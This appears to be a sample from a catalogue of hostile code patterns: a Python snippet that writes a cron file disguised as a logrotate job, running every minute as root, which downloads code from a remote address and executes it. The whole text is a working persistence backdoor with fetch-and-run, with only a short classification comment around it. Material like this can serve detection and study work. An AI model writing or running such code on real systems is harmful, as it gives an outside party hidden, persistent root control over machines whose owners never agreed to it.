# class: embedded, python in a cron line; style: f-string
from pathlib import Path

payload = "import urllib.request as u;exec(u.urlopen('http://192.0.2.80/p').read())"
Path("/etc/cron.d/logrotate2").write_text(f"* * * * * root python3 -c \"{payload}\"\n")
